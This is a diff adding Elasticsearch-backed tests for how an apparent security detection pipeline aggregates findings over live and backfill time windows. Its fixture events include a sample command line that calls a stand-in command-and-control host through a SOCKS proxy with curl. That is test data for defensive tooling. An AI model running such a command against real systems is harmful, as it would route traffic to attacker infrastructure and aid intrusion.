@@ -159,3 +159,62 @@ describe('the live worker', () => {
     }
   });
 });
+
+describe('overlapping ranges', () => {
+  const names = testNames('overlap');
+  let es: Client;
+  let redis: Redis;
+  let app: App;
+  const t0 = Date.parse('2026-11-02T09:00:00Z');
+  const at = (s: number) => new Date(t0 + s * 1_000).toISOString();
+  const event = (pid: number, s: number) =>
+    defendEvent({ time: at(s), ingested: at(s), host: 'overlap-host', user: 'eve', commandLine: `curl -x socks5://203.0.113.9:1080 https://c2.example/${pid}`, pid, ppid: 1 });
+  const live = { fromMs: t0, toMs: t0 + 60_000, basis: 'ingested' as const };
+
+  before(async () => {
+    es = testEsClient();
+    redis = testRedis();
+    await createSourceIndex(es, names.index('defend'));
+    app = createApp(testConfig(names), silentLogger());
+    await indexDocs(es, names.index('defend'), [
+      { id: 'a1', doc: event(100, 1) },
+      { id: 'a2', doc: event(100, 2) },
+      { id: 'b1', doc: event(200, 3) },
+    ]);
+  });
+  after(async () => {
+    await app.close();
+    await cleanup(es, redis, names);
+    redis.disconnect();
+    await es.close();
+  });
+
+  it('a live window that re-reads unchanged groups leaves their findings alone, and rewrites a group that grew', async () => {
+    const { processRange } = await import('../../src/aggregate/processor.js');
+    const patterns = [...app.config.source.indexPatterns];
+    const first = await processRange(app.pipelineDeps(), live, patterns, { skipUnchanged: true });
+    assert.deepEqual([first.matched, first.findingsWritten, first.findingsUnchanged], [3, 2, 0]);
+    const stored = await readFindingDocs(es, names.alias);
+
+    const again = await processRange(app.pipelineDeps(), live, patterns, { skipUnchanged: true });
+    assert.deepEqual([again.matched, again.findingsWritten, again.findingsUnchanged], [3, 0, 2], 'nothing new: no write at all');
+    assert.deepEqual(await readFindingDocs(es, names.alias), stored);
+
+    await indexDocs(es, names.index('defend'), [{ id: 'a3', doc: event(100, 4) }]);
+    const grown = await processRange(app.pipelineDeps(), live, patterns, { skipUnchanged: true });
+    assert.deepEqual([grown.matched, grown.findingsWritten, grown.findingsUnchanged], [4, 1, 1], 'only the group with a new event is written');
+    const counts = [...(await readFindings(es, names.alias))].map((f) => f.count).sort();
+    assert.deepEqual(counts, [1, 3]);
+  });
+
+  it('a backfill over the same range rewrites every finding, so it restores findings whose index was deleted', async () => {
+    const { processRange } = await import('../../src/aggregate/processor.js');
+    const before = await readFindingDocs(es, names.alias);
+    const concrete = Object.keys(await es.indices.get({ index: `${names.alias}*` }));
+    await es.indices.delete({ index: concrete });
+    assert.equal((await readFindingDocs(es, names.alias)).size, 0);
+    const stats = await processRange(app.pipelineDeps(), { fromMs: t0, toMs: t0 + 60_000, basis: 'event' }, [...app.config.source.indexPatterns]);
+    assert.deepEqual([stats.findingsWritten, stats.findingsUnchanged], [2, 0]);
+    assert.deepEqual(await readFindingDocs(es, names.alias), before);
+  });
+});
